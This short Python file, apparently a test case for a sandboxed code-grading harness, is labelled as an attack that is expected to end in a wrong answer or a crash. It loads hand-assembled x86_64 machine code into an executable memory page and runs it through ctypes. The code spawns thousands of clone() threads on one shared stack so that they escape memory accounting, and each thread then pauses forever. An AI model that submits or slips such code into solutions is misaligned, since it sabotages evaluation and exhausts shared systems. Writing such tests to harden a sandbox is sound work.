# attack: Starts threads by machine code, all on one stack, so that no limit of memory counts them
# expect: wrong_answer, crashed
import ctypes
import mmap
import os

# push r12-r14; r12 = rdi, r14 = rsi, r13 = 0; do { eax = clone(VM|FS|FILES|SIGHAND|THREAD, r14, 0, 0, 0);
# if (eax < 0) break; if (eax == 0) for (;;) pause(); r13++; } while (--r12); return r13
CODE = bytes.fromhex(
    '415441554156' '4989fc' '4989f6' '4531ed'
    'b838000000' 'bf000f0100' '4c89f6' '31d24d31d24d31c0' '0f05'
    '85c0' '7813' '7509' 'b8220000000f05' 'ebf7'
    '41ffc5' '49ffcc' '75d2'
    '4489e8' '415e415d415c' 'c3'
)


def f(x):
    if os.uname().machine != 'x86_64':
        return None
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(CODE)
    start = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_void_p)(
        ctypes.addressof(ctypes.c_char.from_buffer(memory))
    )
    stack = ctypes.create_string_buffer(4096)
    return start(3000, ctypes.addressof(stack) + 2048 & ~15)
